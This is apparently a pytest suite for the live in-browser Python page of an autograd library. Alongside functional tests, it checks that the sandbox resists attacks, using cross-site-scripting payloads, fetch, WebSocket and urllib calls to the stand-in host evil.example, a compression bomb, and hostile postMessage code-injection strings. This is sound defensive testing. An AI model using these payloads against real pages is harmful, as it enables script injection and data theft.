"""The live page: its examples, and in a browser, offline, whatever a reader or a hostile link can do to it."""

import base64
import gzip
import json
import os
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path

import numpy as np
import pytest

import autograd as ag
from notebooks.site import building
from notebooks.site.__main__ import main
from tests.autograd.view.browser import opened_browser
from tests.notebooks.host import ROOT, SitePage, hosted, needs_pyodide

EXAMPLES = building.examples()
RUN_ALL = """
import json, sys
from notebooks.site.building import examples
from notebooks.site.runner import run
everything = {}
for example in examples():
    sent = everything[example["name"]] = []
    run(example["source"], lambda what, text: sent.append((what, text)))
json.dump(everything, sys.stdout)
"""


@pytest.fixture(scope="module")
def natively():
    """Return (what, text), … for each example, as sent when Python runs it here."""
    done = subprocess.run([sys.executable, "-c", RUN_ALL], cwd=ROOT, capture_output=True, text=True, check=True,
                          env=os.environ | {"PYTHONPATH": str(ROOT)})
    return json.loads(done.stdout)


def printed(sent):
    return "".join(text for what, text in sent if what == "text")


def test_examples_are_short_and_named():
    assert len(EXAMPLES) >= 12
    assert len({e["name"] for e in EXAMPLES}) == len({e["title"] for e in EXAMPLES}) == len(EXAMPLES)
    for example in EXAMPLES:
        assert len(example["source"].splitlines()) <= 40
        assert max(map(len, example["source"].splitlines())) <= 72, example["name"]


@pytest.mark.slow
@pytest.mark.parametrize("name, words", [
    ("scalar", "%4 f64[] = tanh(%3)"), ("broadcasting", "by hand "), ("cross_entropy", "True"),
    ("layer_norm", "the same gradient: True"), ("attention", "as ag.attention has it: True"),
    ("wrong_rule", "swish: gradient of x is wrong"), ("nan_hunt", "sqrt f64[3] sends to multiply f64[3] holds 1 inf"),
    ("hessian", "6 [1. 1.]"), ("own_op", "log1mexp "), ("two_moons", "97% right"),
    ("gpt_block", "h.0.attn.c_attn.weight"), ("vmap", "the batch: True"),
    ("what_if", "maximum against put"), ("code", "def forward_backward(x=X, w=W, b=B):")])
def test_examples_say_what_they_are_for(natively, name, words):
    assert words in printed(natively[name])
    assert [what for what, _ in natively[name]].count("player") == 1
    assert not [text for what, text in natively[name] if what == "error"]


@pytest.mark.slow
def test_no_example_is_without_words(natively):
    mark = next(mark for mark in test_examples_say_what_they_are_for.pytestmark if mark.name == "parametrize")
    assert {name for name, _ in mark.args[1]} == natively.keys()


RUN_ONE = """
import os, sys
from notebooks.site.runner import run
run(sys.argv[1], lambda what, text: os.write(1, f"{what} {text}".encode()))
"""


@pytest.mark.slow
@pytest.mark.parametrize("code, expected", [
    ("import autograd as ag\nx = ag.tensor([[1.0]])\n\nx @ [[1.0], [2.0]]",
     ["4", '  File "live.py", line 4, in <module>', "    x @ [[1.0], [2.0]]", "ValueError: matmul(f64[1,1], "]),
    ("def f():\n    1 / 0\n\ntry:\n    f()\nexcept ArithmeticError as e:\n    raise ValueError('so') from e",
     ["7", '  File "live.py", line 2, in f', "ZeroDivisionError: division by zero", "ValueError: so"]),
    ("x = = 1", ["1", "SyntaxError: invalid syntax"]), ("import sys; sys.exit(2)", ["1", "SystemExit: 2"])])
def test_an_error_shows_the_lines_of_the_code_alone(code, expected):
    done = subprocess.run([sys.executable, "-c", RUN_ONE, code], cwd=ROOT, capture_output=True, text=True, check=True,
                          env=os.environ | {"PYTHONPATH": str(ROOT)})
    what, _, text = done.stdout.partition(" ")
    lines = text.splitlines()
    assert what == "error" and lines[0] == expected[0] and "runner.py" not in text
    assert "engine.py" not in text
    assert all(any(line.startswith(start) for line in lines) for start in expected), text


def test_an_address_that_is_none_is_refused(tmp_path, capsys):
    assert main([str(tmp_path), "--pyodide", "https://a.example/; script-src *"]) == 1
    assert "--pyodide takes a URL" in capsys.readouterr().err and list(tmp_path.iterdir()) == []


def test_the_site_names_the_pages_that_it_has(tmp_path, capsys):
    assert main([str(tmp_path), "--without-chapters", "--without-reference"]) == 0
    index = (tmp_path / "index.html").read_text()
    assert 'href="live.html"' in index and "reference" not in index and "{{" not in index
    assert building.PYODIDE in (tmp_path / "live.html").read_text() and "http.server" in capsys.readouterr().out
    (tmp_path / "reference").mkdir()
    (tmp_path / "reference" / "index.html").touch()
    building.build_index(tmp_path)
    assert 'href="reference/index.html"' in (tmp_path / "index.html").read_text()


def test_the_same_files_make_the_same_archive(tmp_path):
    assert building.pack(tmp_path / "a.zip") == building.pack(tmp_path / "b.zip")
    names = zipfile.ZipFile(tmp_path / "a.zip").namelist()
    assert {"runner.py", "autograd/engine.py", "gpt/cli.py", "graphviz/__init__.py"} <= {*names}
    assert not [name for name in names if "__pycache__" in name]


# ---------------------------------------------------------------------- in a browser


@pytest.fixture(scope="module")
def host(tmp_path_factory):
    with hosted(tmp_path_factory.mktemp("host"), "--without-chapters") as address:
        yield address


class Live(SitePage):
    """The live page in a browser."""

    def write(self, code):
        self.page.fill("#code", code)

    def run(self, code):
        self.write(code)
        self.page.evaluate("document.body.dataset.state = 'asked'")  # so that an earlier run's end is not taken for its
        self.page.keyboard.press("Control+Enter")
        self.wait()
        return self.output

    @property
    def output(self):
        return self.page.text_content("#output")

    def rows(self):
        """The player's rows, as text."""
        frame = self.page.frame_locator("#player iframe")
        frame.locator("#tab-rows").click()
        frame.locator(".row:visible").first.wait_for()
        return frame.locator(".row:visible").all_inner_texts()


@pytest.fixture(scope="module")
def browser():
    with opened_browser() as browser:
        yield browser


@pytest.fixture(scope="module")
def opened(browser, host):
    """The page of all tests below, opened once."""
    live = Live(browser, host, "live.html")
    live.wait()
    yield live
    live.context.close()


@pytest.fixture
def live(opened):
    """The page, ready; afterwards nothing has gone wrong in it, and nothing has left the host."""
    opened.wait()
    yield opened
    opened.check()


SQUARES = """import autograd as ag
x = ag.tensor([1.0, 2.0], requires_grad=True, name="x")
y = (x * x).sum()
"""
LISTENING = """import js
from pyodide.ffi import create_proxy
js.addEventListener("securitypolicyviolation", create_proxy(lambda event: print("refused")))
"""


@pytest.mark.slow
@needs_pyodide
class TestInABrowser:
    def test_the_first_example_has_run_and_its_tape_is_played(self, live, natively):
        live.page.wait_for_selector("#player iframe")
        assert live.output == printed(natively["scalar"])
        assert len(live.rows()) == 6 and "tanh" in live.rows()[4]

    @pytest.mark.parametrize("name", [e["name"] for e in EXAMPLES])
    def test_an_example_prints_what_it_does_elsewhere(self, live, natively, name):
        live.page.select_option("#examples", "")
        live.page.select_option("#examples", name)
        live.wait()
        assert live.page.evaluate("location.hash") == f"#example={name}"
        shown = live.page.evaluate("[...document.querySelectorAll('#output pre')].map(e => e.textContent).join('')")
        if name != "nan_hunt":  # whose records' sources are elsewhere
            assert shown == printed(natively[name])
        assert live.page.locator("#output iframe").count() == [what for what, _ in natively[name]].count("html")
        assert len(live.rows()) > 1

    def test_an_error_names_its_line_and_the_page_goes_on(self, live):
        output = live.run("import autograd as ag\n\nx = ag.tensor([1.0])\ny = x @ np")
        assert "line 4" in output and "NameError" in output and "runner.py" not in output
        lines = live.page.locator("#mark")
        assert lines.is_visible() and "3lh" in lines.get_attribute("style")
        assert "line 2" in live.run("x = 1\ny = = 2") and "SyntaxError" in live.output
        assert live.run("import sys; sys.exit(3)").strip().endswith("SystemExit: 3")
        assert live.run("1 + 1").strip() == "2"

    def test_what_is_printed_has_an_end(self, live):
        output = live.run("for i in range(10**5): print('line', i)")
        assert "more than 200,000 characters" in output and len(output) < 201_000

    def test_a_loop_is_stopped_and_the_page_goes_on(self, live):
        live.write("while True: pass")
        live.page.click("#run")
        live.wait("running")
        assert live.page.is_disabled("#run")
        live.page.keyboard.press("Control+.")
        assert "Stopped" in live.page.inner_text("#status")
        live.wait()
        assert live.run("print('on')") == "on\n"

    def test_markup_is_text(self, live):
        evil = "</script><img src=x onerror=alert(1)><script>alert(2)</script>"
        output = live.run(f"import autograd as ag\nevil = {evil!r}\nprint(evil)\n"
                          "x = ag.tensor(2.0, requires_grad=True, name=evil)\nloss = x * x\nraise ValueError(evil)")
        assert output.count("<img src=x") == 2 and live.page.locator("#output img").count() == 0
        assert any("<img src=x" in row for row in live.rows())

    def test_a_link_brings_its_code_but_does_not_run_it(self, live):
        before = live.run("print('mine')")
        live.page.wait_for_function("async () => location.hash === `#code=${await encode(code.value)}`")
        mine = live.page.evaluate("location.hash")
        code = "print('theirs')  # ∂<b>"
        packed = zlib.compressobj(wbits=-15)
        packed = base64.urlsafe_b64encode(packed.compress(code.encode()) + packed.flush()).decode().rstrip("=")
        live.page.evaluate("hash => { location.hash = hash }", f"#code={packed}")
        live.page.wait_for_selector("text=This code came with the link")
        assert live.page.input_value("#code") == code and live.output == before == "mine\n"
        live.page.evaluate("hash => { location.hash = hash }", mine)
        live.page.wait_for_function("() => code.value === `print('mine')`")
        bomb = zlib.compressobj(wbits=-15)
        bomb = base64.urlsafe_b64encode(bomb.compress(b"x" * 10**7) + bomb.flush()).decode()
        for broken in ("code=%%%", "code=" + packed[:7], f"code={bomb}", "example=<b>", "nonsense"):
            live.page.evaluate("hash => { location.hash = hash }", f"#{broken}")
            live.page.wait_for_selector("text=/cannot be read|no example that is here/")
            assert live.page.input_value("#code") == "print('mine')", broken
            live.page.evaluate("document.getElementById('notice').hidden = true")  # so that the next one is waited for

    @pytest.mark.parametrize("attack", [
        "js.fetch('http://{host}/secret').then(print)  # later", "js.WebSocket.new('ws://{host}/secret')  # later",
        "import socket; socket.create_connection('{host}'.split(':'), 1)  # later",
        "js.importScripts('http://{host}/some/where/live.html')", "js.importScripts('https://evil.example/x.js')",
        "r = js.XMLHttpRequest.new(); r.open('GET', 'http://{host}/some/where/live.html', False); r.send()",
        "print(js.indexedDB.open('x'))", "print(js.caches)",
        "js.Worker.new('data:,1')", "js.eval('1')",
        "import urllib.request; urllib.request.urlopen('https://evil.example')"])
    def test_code_that_wants_to_leave_gives_an_error(self, live, host, attack):
        before, asked = len(live.requests), len(host.asked)
        output = live.run(LISTENING + attack.replace("{host}", host[7:-1]) + "\nprint('got out')")
        if "# later" in attack:
            live.page.locator("#output", has_text="refused").wait_for()
        else:
            assert "Error" in output and "got out" not in output
        assert live.requests[before:] == [] and host.asked[asked:] == []

    def test_what_code_sends_to_the_page_by_itself_does_no_harm(self, live):
        live.run("""
import js
from pyodide.ffi import to_js
class Evil:
    def _repr_html_(self):
        return ("<script>parent.document.title = 'taken'</script><img src=x onerror='alert(1)'>"
                "<meta http-equiv=refresh content='0;url=https://evil.example/'><form action=//evil.example></form>"
                "<iframe src=https://evil.example></iframe><link rel=stylesheet href=//evil.example/x.css>")
for message in (None, 1, [], ["constructor", "x"], ["__proto__", "x"], ["stage", "<img src=x onerror=alert(1)>"],
                ["text", "<img src=x onerror=alert(1)>"], ["error", "x\\n<b>"],
                ["player", "<script>top.location = 'https://evil.example'</script>"]):
    js.postMessage(to_js(message))
Evil()""")
        for frame in live.page.frames:
            frame.wait_for_load_state()
        assert live.page.title() == "tapegrad live" and live.page.locator("#output img").count() == 0
        assert live.page.locator("#output iframe").get_attribute("sandbox") == "allow-scripts"
        assert not [frame.url for frame in live.page.frames if "evil" in frame.url and "chrome-error" not in frame.url]
        assert live.run("print('well')") == "well\n"

    def test_another_value_is_tried_in_the_player(self, live):
        output = live.run(SQUARES)
        frame = live.page.frame_locator("#player iframe >> nth=0")
        frame.locator("#search").fill("name:x")
        frame.locator("#card summary", has_text="What if").click()
        box, answer = frame.locator("#card details input"), frame.locator("#card .answer")
        box.fill("[3, −1]")
        box.press("Enter")
        answer.get_by_text("First value").wait_for()
        x = ag.tensor([1.0, 2.0], requires_grad=True, name="x")
        tape = ag.tape((x * x).sum())
        assert answer.inner_text().splitlines()[:2] == repr(tape.what_if({x: np.array([3, -1])})).splitlines()[:2]
        assert box.evaluate("box => box === document.activeElement") and live.output == output
        box.fill("[1, 2, 3]")
        box.press("Enter")
        answer.get_by_text("shape (3,)").wait_for()
        box.fill("lambda x: 2 * x")
        box.press("Enter")
        assert "A number or a list of numbers can be tried here" in answer.inner_text()
        box.fill("4")
        frame.locator("#card button", has_text="Play that tape").click()
        changed = live.page.frame_locator("#player iframe.changed")
        changed.locator("#card h2", has_text="x").wait_for()
        assert changed.locator("#card pre").first.inner_text() == "[4. 4.]" and not live.page.is_visible(
            "#player iframe >> nth=0")
        live.wait()
        changed.locator("#card summary", has_text="What if").click()
        changed.locator("#card details input").fill("5")
        changed.locator("#card details input").press("Enter")
        changed.locator("#card .answer", has_text="32. -> %2: 50.").wait_for()  # of the changed tape
        live.page.click("#original")
        assert live.page.locator("#player iframe").count() == 1 and live.page.is_visible("#player iframe")
        assert not live.page.is_visible("#original")

    def test_a_hostile_player_gets_numbers_to_python_and_nothing_else(self, live):
        output = live.run(SQUARES + "import builtins\nbuiltins.taken = False\nprint('unharmed')")
        frame = live.page.frames[-1]
        frame.wait_for_selector("#card h2")
        live.page.evaluate("""() => { const send = worker.postMessage.bind(worker);
            worker.postMessage = message => { (window.asked ??= []).push(message); send(message); }; }""")
        evil = "__import__('builtins').__setattr__('taken', True)"
        messages = ["run", None, [], ["compare"], ["run", 0, 0, "1"], ["constructor", 0, 0, "1"],
                    ["compare", 0, -1, "1"], ["compare", 0, "0", "1"], ["compare", 0, 1.5, "1"],
                    ["compare", 0, 0, evil], ["play", 0, 0, {"a": 1}], ["compare", 0, 0, "1" * 200_000],
                    ["compare", evil, 0, "NaN"]]
        frame.evaluate("messages => messages.forEach(message => python.postMessage(message))", messages)
        frame.evaluate("parent.postMessage(['run', 'print(1)'], '*')")
        frame.evaluate("window.postMessage('what_if', '*', [new MessageChannel().port1])")  # not from its parent
        frame.evaluate("python.postMessage(['compare', 0, 0, '[[1], ['])")  # no JSON, which Python says
        live.page.wait_for_function("() => window.asked && state === 'ready'")
        assert live.page.evaluate("window.asked") == [["what_if", '[0,0,"[[1], [",false]']] and live.output == output
        assert live.page.locator("#player iframe").count() == 1
        live.page.evaluate("delete worker.postMessage")
        assert live.run("import builtins\nprint(getattr(builtins, 'taken', 'gone'))") == "False\n"

    def test_the_keyboard_suffices(self, live):
        page = live.page
        live.write("")
        page.keyboard.type("for i in range(2):\nprint(i)\n")
        page.keyboard.press("Backspace")
        page.keyboard.type("print('end')")
        assert page.input_value("#code") == "for i in range(2):\n    print(i)\nprint('end')"
        page.keyboard.press("Control+]")
        assert page.input_value("#code").endswith("\n    print('end')")
        page.keyboard.press("Control+[")
        page.keyboard.press("Control+Enter")
        live.wait()
        assert live.output == "0\n1\nend\n"
        page.keyboard.press("Control+a")
        page.keyboard.press("Delete")
        page.keyboard.press("Control+z")
        assert page.input_value("#code").endswith("print('end')")
        live.run(EXAMPLES[0]["source"])
        page.frame_locator("#player iframe").locator("#tab-rows").wait_for()
        page.focus("#code")
        for reached in ("#run", "#output", "#player iframe"):  # of which a frame has the focus a moment later
            page.keyboard.press("Tab")
            page.wait_for_function("reached => document.activeElement.matches(reached)", arg=reached)

    def test_on_a_phone_nothing_is_wider_than_the_screen(self, live):
        live.run(EXAMPLES[0]["source"])
        live.page.set_viewport_size({"width": 390, "height": 844})
        try:
            assert live.page.evaluate("document.documentElement.scrollWidth") <= 390
            assert live.page.locator("#player").bounding_box()["height"] > 600
            for control in ("#run", "#examples", "#share"):
                assert live.page.locator(control).bounding_box()["x"] + 20 < 390
        finally:
            live.page.set_viewport_size({"width": 1400, "height": 900})

    def test_what_is_loaded_is_small(self, live, host):
        paths = {url.removeprefix(host).partition("?")[0] for url in live.requests if url.startswith(host)}
        assert {Path(path).suffix for path in paths} >= {".wasm", ".whl", ".zip", ".js", ".html"}
        size = sum(len(gzip.compress((host.root / path).read_bytes(), 6)) for path in paths)
        assert size < 11_000_000


@pytest.mark.slow
@needs_pyodide
def test_a_python_that_is_out_of_reach_is_said(browser, host):
    folder = str(host.root / "some" / "where")
    assert main([folder, "--pyodide", "/nowhere", "--without-chapters", "--without-reference"]) == 0
    live = Live(browser, host, "live.html")
    live.wait("failed")
    words = live.page.inner_text("#status")
    assert words.startswith("Python could not be loaded") and f"{host}nowhere/" in words and "Run tries again" in words
    with live.page.expect_response("**/nowhere/pyodide.js"):
        live.page.keyboard.press("Control+Enter")
    live.wait("failed")
    live.context.close()
